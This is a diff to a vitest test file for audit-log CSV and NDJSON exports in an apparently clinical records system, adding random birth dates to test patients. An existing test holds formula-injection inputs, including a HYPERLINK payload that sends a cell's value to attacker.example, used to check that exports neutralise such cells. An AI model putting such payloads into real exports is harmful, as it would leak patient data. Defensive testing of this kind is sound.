@@ -5,7 +5,7 @@ import { generateKeyPairSync } from "node:crypto";
 import { createRequire } from "node:module";
 import { parse } from "csv-parse/sync";
 import { expect, it } from "vitest";
-import { callerFor, codeOf, contextFor, newPatient, testUser } from "../testing/caller";
+import { callerFor, codeOf, contextFor, newPatient, randomBirthDate, testUser } from "../testing/caller";
 import { describeEachDatabase } from "../testing/db";
 import { sealLog } from "../eventStore";
 import { CSV_FORMULA_NOTE, csvColumns, exportChunks, exportRequestFrom, startExport, type AuditRow, type ExportRequest } from "./export";
@@ -26,7 +26,7 @@ async function collect(chunks: AsyncGenerator<string>): Promise<string> {
 describeEachDatabase("audit extracts", (db) => {
   async function record() {
     const clinician = callerFor(db(), ["clinician"]);
-    const { patientId } = await clinician.patient.register(newPatient({ givenName: "Ada", familyName: "Export, \"Quoted\"\nLine" }));
+    const { patientId } = await clinician.patient.register(newPatient({ givenName: "Ada", familyName: "Export, \"Quoted\"\nLine", dateOfBirth: randomBirthDate() }));
     await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0177" }, reason: "new number, with a comma" });
     const { encounterId } = await clinician.encounter.start({ patientId, encounterType: "outpatient", reason: "Check-up" });
     await clinician.order.create({ patientId, encounterId, kind: "lab", details: { description: "CBC" } });
@@ -95,7 +95,7 @@ describeEachDatabase("audit extracts", (db) => {
 
   it("CSV quotes cells a spreadsheet would run as formulas (OWASP): text gets a leading ', numbers stay numbers, NDJSON keeps the text", async () => {
     const clinician = callerFor(db(), ["clinician"]);
-    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=1+2", familyName: "@SUM(1+1)" }));
+    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=1+2", familyName: "@SUM(1+1)", dateOfBirth: randomBirthDate() }));
     const hyperlink = '=HYPERLINK("http://attacker.example/?x="&B2,"Click for details")';
     await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0188" }, reason: hyperlink });
     const csv = await run({ view: "timeline", format: "csv", patientId });
